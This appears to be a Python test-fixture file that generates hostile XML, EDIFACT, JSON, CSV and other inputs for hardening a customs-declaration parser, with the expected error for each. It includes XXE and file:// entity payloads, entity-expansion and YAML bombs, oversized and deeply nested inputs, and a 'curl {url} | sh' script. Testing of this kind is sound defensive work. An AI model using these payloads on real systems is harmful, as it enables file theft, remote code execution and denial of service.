# SPDX-FileCopyrightText: 2026 The kpwatch authors
# SPDX-License-Identifier: Apache-2.0
"""Documents made to hurt a reader: each as a name, its bytes, and what must come of it. Made when asked for; some are of many MiB.

Expected is all that must come of it, in the order of the alphabet: "read" when something of it is read, "unmapped" when something of it is good but for no map,
and the reasons of its dead letters.
"""
import json

MESSAGE = 8 << 20        # the limits of docs/settings.md that these documents aim at
INTERCHANGE = 64 << 20

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
WCO = "urn:wco:datamodel:WCO:DEC-DMS:2"


def wco(inside="", attributes=""):
    return f'<Declaration xmlns="{WCO}"{attributes}><FunctionalReferenceID>H-1</FunctionalReferenceID><TypeCode>IMA</TypeCode>{inside}</Declaration>'


def wide(text):
    return b"\xff\xfe" + text.encode("utf-16-le")


def filled(head, part, tail, most=MESSAGE, number=False):
    """As many parts as fit between head and tail; {n} in a part counts."""
    if not number:
        return (head + part * ((most - len(head) - len(tail)) // len(part)) + tail).encode()
    out, size, n = [head], len(head) + len(tail), 0
    while True:
        one = part.replace("{n}", str(n))
        size += len(one)
        if size > most:
            break
        out.append(one)
        n += 1
    return "".join(out + [tail]).encode()


def xml(url, secret):
    yield "external DTD over http", HEAD + f'<!DOCTYPE Declaration SYSTEM "{url}/x.dtd">' + wco(), "doctype-refused"
    yield "public DTD over http", HEAD + f'<!DOCTYPE Declaration PUBLIC "-//X//Y" "{url}/x.dtd">' + wco(), "doctype-refused"
    yield "external parameter entity", HEAD + f'<!DOCTYPE Declaration [<!ENTITY % p SYSTEM "{url}/p"> %p;]>' + wco(), "doctype-refused"
    yield "file:// entity", HEAD + f'<!DOCTYPE Declaration [<!ENTITY x SYSTEM "file://{secret}">]>' + wco("<ID>&x;</ID>"), "doctype-refused"
    yield "DTD behind comments, UTF-16", wide(f'<!-- > --><?p i?>\n<!DOCTYPE Declaration SYSTEM "{url}/x">' + wco()), "doctype-refused"
    nested = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10 if i else "ha"}">' for i in range(30))
    yield "nested entities", HEAD + f"<!DOCTYPE Declaration [{nested}]>" + wco("<ID>&a29;</ID>"), "doctype-refused"
    yield "one 100 kB entity, 20,000 times", HEAD + f'<!DOCTYPE Declaration [<!ENTITY a "{"x" * 100_000}">]>' + wco("&a;" * 20_000), "doctype-refused"
    hints = f' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{WCO} {url}/a.xsd" xsi:noNamespaceSchemaLocation="{url}/b.xsd"'
    yield "xsi:schemaLocation over http", wco("", hints), "read"
    yield "XInclude and stylesheet", f'<?xml-stylesheet href="{url}/s.xsl"?>' + wco(f'<ID><x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file://{secret}"/></ID>'), "read"
    yield "undefined entity", wco("<ID>&nbsp;</ID>"), "not-well-formed"
    for depth in (65, 10_000, 80_000, 1_000_000):
        yield f"depth {depth:,}", wco("<a>" * depth + "</a>" * min(depth, 100_000)), "too-deep"
    yield "depth 500,000, UTF-16", wide(wco("<a>" * 500_000)), "too-deep"
    yield "attribute of 8 MiB", filled(f'<Declaration xmlns="{WCO}" a="', "x", '"/>'), "value-too-long"
    yield "attribute of 4 Mi characters, UTF-16", wide(f'<Declaration xmlns="{WCO}" a="' + "x" * 4_000_000 + '"/>'), "value-too-long"
    yield "comment of 8 MiB", filled(HEAD + "<!--", "x", "-->" + wco()), "read"
    yield "instruction of 8 MiB", filled(HEAD + "<?p ", "x", "?>" + wco()), "read"
    yield "900,000 comments", filled(HEAD, "<!---->", wco()), "read"
    yield "element name of 8 MiB", filled("<", "x", "/>"), "name-too-long"
    yield "element name of 4 Mi characters, UTF-16", wide("<" + "x" * 4_000_000 + "/>"), "name-too-long"
    yield "text of 8 MiB", filled(f'<Declaration xmlns="{WCO}"><TypeCode>', "x", "</TypeCode></Declaration>"), "value-too-long"
    yield "text of 8 MiB in CDATA pieces", filled(f'<Declaration xmlns="{WCO}"><TypeCode>', "<![CDATA[x]]>", "</TypeCode></Declaration>"), "value-too-long"
    yield "text nobody asks for, 8 MiB in pieces", filled(f'<Declaration xmlns="{WCO}">', f"<Unknown>{'x' * 60_000}</Unknown>", "</Declaration>"), "read"
    yield "600,000 attributes", filled(f'<Declaration xmlns="{WCO}"', " a{n}=''", "/>", number=True), "too-many-attributes"
    yield "300,000 attributes, UTF-16", wide(f'<Declaration xmlns="{WCO}"' + "".join(f" a{n}=''" for n in range(300_000)) + "/>"), "too-many-attributes"
    yield "the same attribute twice", f'<Declaration xmlns="{WCO}" a="1" a="2"/>', "not-well-formed"
    yield "800,000 distinct names", filled("<Declaration>", "<n{n}/>", "</Declaration>", number=True), "too-many-names"
    yield "400,000 distinct namespaces", filled("<Declaration>", "<a xmlns='u:{n}'/>", "</Declaration>", number=True), "too-many-names"
    yield "300,000 prefixes on one element", filled("<Declaration", " xmlns:p{n}='u'", "/>", number=True), "too-many-attributes"
    yield "2,000,000 elements", filled(f'<Declaration xmlns="{WCO}">', "<a/>", "</Declaration>"), "too-many-elements"
    yield "199,990 elements nobody asks for", wco("<a/>" * 199_990), "read"
    for name in ("UTF-7", "IBM037", "UTF-32", "ISO-2022-JP"):
        yield f"encoding {name}", f'<?xml version="1.0" encoding="{name}"?>' + wco(), "encoding-refused"
    yield "EBCDIC bytes", (HEAD + wco()).encode("cp037"), "encoding-refused"
    yield "over-long UTF-8", wco("<ID>").encode()[:-14] + b"\xc0\x80" + b"</ID></Declaration>", "encoding-invalid"
    yield "8 MiB of bad UTF-8", HEAD.encode() + b"<a>" + b"\xff" * (MESSAGE - 100) + b"</a>", "encoding-invalid"
    yield "8 MiB of '<'", b"<" * MESSAGE, "input-ends-early"
    yield "8 MiB of '<a '", b"<a " * (MESSAGE // 3), "input-ends-early"
    yield "8 MiB of '&'", (HEAD + "<a>").encode() + b"&" * (MESSAGE - 100), "input-ends-early"
    yield "8 MiB of ']]>'", (HEAD + "<a>").encode() + b"]]>" * (MESSAGE // 3 - 100), "not-well-formed"
    yield "8 MiB of '<!--' unended", (HEAD + "<a>").encode() + b"<!--" * (MESSAGE // 4 - 100), "input-ends-early"
    yield "9 MiB", b"<a>" + b"x" * (9 << 20) + b"</a>", "too-many-bytes"
    yield "32 MiB", b"<a>" + b"x" * (32 << 20) + b"</a>", "too-many-bytes"
    item = ("<GovernmentAgencyGoodsItem><SequenceNumeric>{n}</SequenceNumeric><AdditionalDocument><CategoryCode>C</CategoryCode><ID>BW {n}</ID><TypeCode>034</TypeCode>"
            "</AdditionalDocument><Commodity><Description>rough diamonds</Description><Classification><ID>71023100</ID><IdentificationTypeCode>TSP</IdentificationTypeCode>"
            "</Classification><GoodsMeasure><TariffQuantity unitCode='CTM'>1.5</TariffQuantity></GoodsMeasure></Commodity></GovernmentAgencyGoodsItem>")
    yield "rough diamonds, as many items as fit", filled(f'<Declaration xmlns="{WCO}"><ID>MANY1</ID><TypeCode>IMA</TypeCode><GoodsShipment>', item, "</GoodsShipment></Declaration>", number=True), "too-many-elements"
    cited = "<AdditionalDocument><CategoryCode>C</CategoryCode><ID>BW {n}</ID><TypeCode>034</TypeCode></AdditionalDocument>"
    yield "one item, as many certificates as fit", filled(f'<Declaration xmlns="{WCO}"><ID>MANY2</ID><TypeCode>IMA</TypeCode><GoodsShipment><GovernmentAgencyGoodsItem>', cited,
          "<Commodity><Classification><ID>71023100</ID><IdentificationTypeCode>TSP</IdentificationTypeCode></Classification></Commodity></GovernmentAgencyGoodsItem></GoodsShipment></Declaration>", number=True), "too-many-parts"
    yield "60,000 values that do not convert", filled(f'<Declaration xmlns="{WCO}"><GoodsShipment>',
          "<GovernmentAgencyGoodsItem><CustomsValueAmount>none</CustomsValueAmount></GovernmentAgencyGoodsItem>", "</GoodsShipment></Declaration>"), "read"


def schema(url, secret):
    """For a feed whose messages are held against tests/samples/own-schemas: where a validator may be made to work. Without schemas they are as good as any."""
    items = '<GoodsShipment>', '</GoodsShipment>'
    xsi = ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    yield "60,000 characters under a pattern", wco("<ID>" + "A " * 30_000 + "!</ID>"), "read"
    yield "60,000 characters under a choice, repeated", wco("<FunctionCode>" + "A-" * 30_000 + "!</FunctionCode>"), "read"
    yield "a list of 30,000 codes", wco(f"<Exporter role='{'A ' * 30_000}'/>"), "read"
    yield "a decimal of 60,000 digits", wco(f"<GoodsShipment><GovernmentAgencyGoodsItem><SequenceNumeric>{'9' * 60_000}</SequenceNumeric><CustomsValueAmount>0.{'1' * 60_000}</CustomsValueAmount>"
                                             "</GovernmentAgencyGoodsItem></GoodsShipment>"), "read"
    yield "days that no calendar has", wco(f"<AcceptanceDateTime>{'9' * 60_000}-02-30</AcceptanceDateTime>"), "read"
    yield "9,999 items with one number", wco(items[0] + "<GovernmentAgencyGoodsItem><SequenceNumeric>1</SequenceNumeric></GovernmentAgencyGoodsItem>" * 9_999 + items[1]), "read"
    yield "65,000 items with numbers of their own", filled(f'<Declaration xmlns="{WCO}"><TypeCode>IMA</TypeCode>' + items[0], "<GovernmentAgencyGoodsItem><SequenceNumeric>{n}</SequenceNumeric></GovernmentAgencyGoodsItem>",
          items[1] + "</Declaration>", most=6 << 20, number=True), "read"
    yield "150,000 deviations", wco("<Nonsense/>" * 150_000), "read"
    yield "150,000 attributes of no schema", wco(items[0] + "<GovernmentAgencyGoodsItem x='1' y='2' z='3'/>" * 50_000 + items[1]), "too-many-items"
    yield "wildcards, 4 MiB", filled(f'<Declaration xmlns="{WCO}">' + items[0] + "<GovernmentAgencyGoodsItem><SequenceNumeric>1</SequenceNumeric>", '<o:x xmlns:o="urn:other"><Declaration><ID>1</ID></Declaration></o:x>',
          "</GovernmentAgencyGoodsItem>" + items[1] + "</Declaration>", most=4 << 20), "read"
    yield "types and nothing, as the sender says", wco("<Exporter xsi:type='d:Item'><Name xsi:nil='true'>X</Name></Exporter><ID xsi:type='xs:anyType'><ID/></ID>", xsi + f' xmlns:d="{WCO}" xmlns:xs="http://www.w3.org/2001/XMLSchema"'), "read"
    yield "a schema inside the message", wco(f'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:import schemaLocation="{url}/s.xsd"/><xs:include schemaLocation="file://{secret}"/></xs:schema>'), "read"


def edi(body, head="UNB+UNOC:3+SENDER+RECEIVER+260101:0900+1'", tail="UNZ+1+1'"):
    return head + body + tail


def cusdec(inside, count=None, reference="1"):
    segments = inside.count("'") + 2
    return f"UNH+{reference}+CUSDEC:D:96B:UN:ZZZ01'{inside}UNT+{segments if count is None else count}+{reference}'"


def edifact(url, secret):
    bgm = "BGM+929+H-1+9'"
    yield "no terminator in 8 MiB", "UNB+UNOC:3+S+R+260101:0900+1" + "+A" * (MESSAGE // 2 - 50), "nothing-to-rely-on"
    yield "no terminator in 60 MiB", "UNB+UNOC:3+S+R+260101:0900+1+" + "A" * (60 << 20), "nothing-to-rely-on"
    yield "UNA with equal characters", "UNA++.? '" + edi(cusdec(bgm)), "invalid-service-characters"
    yield "UNA of letters", "UNAABCDEF" + edi(cusdec(bgm)), "invalid-service-characters"
    yield "UNA of control characters", "UNA\x01\x02\x03\x04\x05\x06" + edi(cusdec(bgm)), "invalid-service-characters"
    yield "'?' at the end", edi(cusdec(bgm)) + "UNB+A?", "read"
    yield "8 MiB of '?'", edi("", tail="") + "?" * (MESSAGE - 100), "nothing-to-rely-on"
    yield "a segment of '??' pairs, 8 MiB", edi(cusdec(bgm + "FTX+AAA+++" + "??" * (MESSAGE // 2 - 200) + "'")), "segment-too-long"
    yield "8 MiB of terminators", edi(cusdec(bgm)) + "'" * (MESSAGE - 1000), "read"
    yield "8 MiB of '+'", edi(cusdec("BGM" + "+" * (MESSAGE - 1000) + "'")), "segment-too-long"
    yield "8 MiB of ':'", edi(cusdec("BGM+" + ":" * (MESSAGE - 1000) + "'")), "segment-too-long"
    yield "8 MiB of 'UNB+'", "UNB+" * (MESSAGE // 4), "nothing-to-rely-on"
    yield "8 MiB of \"UNB+'\"", "UNB+'" * (MESSAGE // 5), "too-many-messages"
    yield "8 MiB of 'UNA'", "UNA" * (MESSAGE // 3), "format-not-recognised"
    yield "8 MiB of \"UNH+1'\"", edi("UNH+1'" * (MESSAGE // 6 - 20)), "missing-segment, more-refused, too-many-messages"
    yield "declared counts of 10^18", edi(cusdec(bgm + "CNT+5:1000000000000000000'", 10**18), tail="UNZ+1000000000000000000+1'"), "read"
    yield "UNB inside UNB", edi("UNB+UNOC:3+S+R+260101:0900+2'" + cusdec(bgm)), "read"
    yield "UNE without UNG", edi(cusdec(bgm) + "UNE+1+1'"), "read"
    yield "UNZ before UNT", edi(f"UNH+1+CUSDEC:D:96B:UN:ZZZ01'{bgm}UNZ+1+1'UNT+3+1'"), "missing-segment"
    yield "two UNZ", edi(cusdec(bgm), tail="UNZ+1+1'UNZ+1+1'"), "read"
    yield "binary object, length prefix of 10^12", edi(cusdec(bgm) + "UNO+1+1+1000000000000'abc'UNP+1000000000000+1'"), "binary-object, read"
    yield "UNOA with UTF-8", edi(cusdec("BGM+929+é毛坯+9'"), head="UNB+UNOA:4+S+R+260101:0900+1'"), "read"
    yield "8 MiB of NUL", edi(cusdec(bgm)).encode() + b"\0" * (MESSAGE - 1000), "read"
    yield "NUL in the data, 8 MiB", edi(cusdec(bgm + ("FTX+AAA+++" + "\0" * 400 + "'") * 20_000)), "read"
    yield "numbers in every style", edi(cusdec(bgm + "CST+1+71023100:122'MEA+WT+AAA+KGM:1.5'MEA+WT+AAA+KGM:1,5'MEA+WT+AAA+KGM:1e9'MEA+WT+AAA+KGM:1.000,5'MOA+40:" + "9" * 400 + ":USD'")), "read"
    yield "9,999 items", edi(cusdec(bgm + "".join(f"CST+{n}+09012100:122'MEA+WT+AAA+KGM:1'" for n in range(1, 10_000)) + "UNS+S'")), "read"
    yield "100,001 segments", edi(cusdec(bgm + "FTX+AAA+++A'" * 100_001)), "too-many-segments"
    yield "10,001 messages", edi("".join(cusdec(bgm + "UNS+S'", reference=str(n)) for n in range(10_001)), tail="UNZ+10001+1'"), "read, too-many-messages"
    yield "60 MiB of small messages", filled("UNB+UNOC:3+S+R+260101:0900+1'", cusdec(bgm + "UNS+S'"), "UNZ+1+1'", 60 << 20), "read, too-many-messages"
    yield "60 MiB of one message", filled("UNB+UNOC:3+S+R+260101:0900+1'UNH+1+CUSDEC:D:96B:UN:ZZZ01'", "FTX+AAA+++" + "A" * 400 + "'", "UNT+1+1'UNZ+1+1'", 60 << 20), "message-too-large"
    yield "segment of 9 KiB", edi(cusdec(bgm + "FTX+AAA+++" + "A" * 9000 + "'")), "segment-too-long"
    yield "8 MiB in lines of 80", "\n".join(edi(cusdec(bgm + "FTX+AAA+++" + "A" * 70 + "'"))[i:i + 80] for i in range(0, 160, 80)) * (MESSAGE // 200), "missing-segment, more-refused, too-many-messages"
    yield "UTF-16", wide(edi(cusdec(bgm)) * 20_000), "read, too-many-messages"
    yield "mail with 8 MiB of text before", "Subject: x\n" * (MESSAGE // 12) + edi(cusdec(bgm)), "format-not-recognised"
    goods = "CST+{n}+71023100:122'LOC+27+BW'MEA+WT+AAA+KGM:0.5'DOC+KBC+BW{n}'"
    yield "rough diamonds, 9,999 items", edi(cusdec("BGM+929+MANY3+9'" + "".join(goods.replace("{n}", str(n)) for n in range(1, 10_000)) + "UNS+S'")), "too-many-items"


def json_documents(url, secret):
    size = 1 << 20
    yield "1 MiB of '['", "[" * size, "too-deep"
    yield "1 MiB of '{\"a\":'", '{"a":' * (size // 5), "too-deep"
    yield "depth 33", '{"kpwatch":"declaration/1","x":' + "[" * 33 + "]" * 33 + "}", "too-deep"
    yield "a document of 1 MiB and more", '{"kpwatch":"declaration/1","reference":"' + "x" * size + '"}', "too-many-bytes"
    yield "8 MiB of '[' as lines", "[\n" * (MESSAGE // 2), "too-many-bytes"
    yield "80,000 members", '{"kpwatch":"declaration/1"' + "".join(f',"a{n}":1' for n in range(80_000)) + "}", "read"
    yield "the same member 60,000 times", '{"kpwatch":"declaration/1"' + ',"reference":"a"' * 60_000 + "}", "read"
    yield "numbers beyond all measure", '{"kpwatch":"declaration/1","reference":"N","items":[{"number":1e999999,"carats":' + "9" * 5000 + ',"commodity_code":-0.0}]}', "read"
    yield "a million escapes", '{"kpwatch":"declaration/1","reference":"' + "\\u0000" * (size // 7) + '"}', "value-too-long"
    yield "lone surrogates", '{"kpwatch":"declaration/1","reference":"\\ud800","remark":"\\udc00\\ud800"}', "bad-string"
    yield "8 MiB of small documents", '{"kpwatch":"declaration/1"}\n' * (MESSAGE // 28), "read, too-many-documents"
    yield "8 MiB of '{}' lines", "{}\n" * (MESSAGE // 3), "too-many-documents, unmapped"
    yield "8 MiB of '{}' in an array", "[" + "{}," * (MESSAGE // 3 - 10) + "{}]", "too-many-documents, unmapped"
    yield "8 MiB of '1' lines", "1\n" * (MESSAGE // 2), "format-not-recognised"
    yield "8 MiB of quotes", '{"a":"' + '\\"' * (MESSAGE // 2 - 10), "too-many-bytes"
    yield "8 MiB of backslashes", '{"a":"' + "\\" * (MESSAGE - 100), "too-many-bytes"
    yield "8 MiB of blanks", "{" + " " * (MESSAGE - 100) + "}", "too-many-bytes"
    yield "8 MiB of bad UTF-8", b'{"a":"' + b"\xff" * (MESSAGE - 100) + b'"}', "too-many-bytes"
    yield "UTF-16", "{}".encode("utf-16"), "not-utf8"
    item = {"number": "1", "commodity_code": "71023100", "description": "rough", "documents": [{"code": "L116", "reference": "BW1"}]}
    yield "rough diamonds, 1 MiB of items", json.dumps({"kpwatch": "declaration/1", "reference": "MANY4", "regime": "import", "jurisdiction": "BE", "items": [item] * 9_000}), "too-many-bytes"
    seals = {"kpwatch": "certificate/1", "number": "BW1", "issuer": "BW", "seals": ["S" * 10] * 70_000}
    yield "a certificate with 70,000 seals", json.dumps(seals), "too-many-parts"


def csv(url, secret):
    head = "number,issuer,issued_on,carats,seals,status\n"
    yield "a line of 8 MiB", head + "x" * MESSAGE, "value-too-long"
    yield "a header of 8 MiB", "number," + "x" * MESSAGE, "line-not-ended"
    yield "4,000,000 columns", head + "," * (MESSAGE // 2), "too-many-values"
    yield "4,000,000 columns in the header", "number" + ",a" * (MESSAGE // 2 - 10) + "\n1\n", "too-many-columns"
    yield "an unended quote", head + '"' + "x\n" * (MESSAGE // 2), "more-refused, quote-not-closed, too-few-values"
    yield "8 MiB of quotes", head + '"' * (MESSAGE - 100), "value-too-long"
    yield "8 MiB of line ends", head + "\n" * (MESSAGE - 100), "nothing"
    yield "8 MiB of lines with nothing right", head + "a,b,c,d,e,f\n" * (MESSAGE // 12 - 10), "bad-country, more-refused"
    yield "5,000 certificates", head + "".join(f"BW{n},BW,2026-01-01,1.5,S1,valid\n" for n in range(5_000)), "read"
    yield "NUL bytes", head.encode() + b"\0" * (1 << 20), "value-too-long"


def strange(url, secret):
    yield "nothing", b"", "empty-input"
    yield "8 MiB of blanks", b" " * MESSAGE, "empty-input"
    yield "8 MiB of NUL", b"\0" * MESSAGE, "format-not-recognised"
    yield "60 MiB of NUL", b"\0" * (60 << 20), "format-not-recognised"
    yield "gzip, zip and ELF", b"\x1f\x8b\x08\x00" + b"PK\x03\x04" * 1000 + b"\x7fELF", "format-not-recognised"
    yield "a shell script", f"#!/bin/sh\ncurl {url} | sh\n".encode(), "format-not-recognised"
    yield "a YAML bomb", "a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\n".encode(), "format-not-recognised"


FAMILIES = {"XML": xml, "schema": schema, "EDIFACT": edifact, "JSON": json_documents, "CSV": csv, "other": strange}


def everything(url, secret):
    for family, make in FAMILIES.items():
        for name, content, expected in make(url, secret):
            yield f"{family}: {name}", content if isinstance(content, bytes) else content.encode("utf-8", "surrogatepass"), expected
